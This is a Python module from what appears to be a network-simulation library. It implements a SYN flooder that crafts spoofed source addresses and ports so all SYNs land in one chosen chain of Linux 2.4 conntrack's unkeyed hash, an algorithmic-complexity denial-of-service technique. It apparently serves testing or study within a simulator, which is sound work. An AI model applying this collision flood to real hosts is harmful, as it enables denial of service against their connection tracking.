"""SYNs that all fall into one chain of a hash without a key: its sender needs to know the hash, and nothing else.

Conntrack of Linux 2.4 adds up the words of a flow as they lie in memory, and its port; the remainder is the chain. So
for any port there are addresses that give the chain that is wanted. Facts: conntrack 1.2; Crosby and Wallach, "Denial
of Service via Algorithmic Complexity Attacks" (2003).
"""

from __future__ import annotations

import random
from typing import TYPE_CHECKING

from pystack._fast.consts import PROTO_TCP, SYN
from pystack.packetdrill.segments import ip_packet, tcp_segment
from pystack.traffic.flooder import SynFlooder

if TYPE_CHECKING:
    from pystack.network import Network
    from pystack.sockets import Address
    from pystack.tap import Tap

WORD = 0xFFFFFFFF


def swapped(word: int, octets: int) -> int:
    """A word in network order as a little-endian machine reads it."""
    return int.from_bytes(word.to_bytes(octets, "big"), "little")


class AimedFlooder(SynFlooder):
    """A `SynFlooder` whose SYNs, from addresses of `sources`, fall into chain `chain` of `chains`."""

    def __init__(
        self,
        net: Network,
        tap: Tap,
        target: Address,
        *,
        rate: int,
        chain: int,
        chains: int,
        sources: str = "128.0.0.0/2",
        seed: int = 1,
    ) -> None:
        super().__init__(net, tap, target, rate=rate, sources=sources, seed=seed)
        if not 0 <= chain < chains:
            raise ValueError(f"there is no chain {chain} among {chains}")
        self.chain = chain
        self.chains = chains
        self._dice = random.Random(seed)
        self._sent = 0

    @property
    def sent(self) -> int:
        """SYNs so far."""
        return self._sent

    def source(self) -> tuple[int, int]:
        """An address and a port that give the chain."""
        dst, dport = self._to
        network, mask = self._from
        while True:
            port = self._dice.randrange(1024, 65536)
            wanted = self._dice.randrange(WORD // self.chains) * self.chains + self.chain
            total = swapped(wanted - port & WORD, 4)
            rest = swapped(dst, 4) + swapped(port, 2) + swapped(dport, 2) + PROTO_TCP
            addr = swapped(total - rest & WORD, 4)
            if addr & mask == network:
                return addr, port

    def send(self, n: int) -> None:
        for _ in range(n):
            addr, port = self.source()
            self.tap.send(self._syn(addr, port))
            self._sent += 1

    def _syn(self, addr: int, port: int) -> bytes:
        dst, dport = self._to
        head = (port, dport), self._dice.randrange(WORD), 0, SYN, 64240, 0
        return ip_packet(tcp_segment(addr, dst, *head, b"", b""), PROTO_TCP, addr, dst, ttl=64)
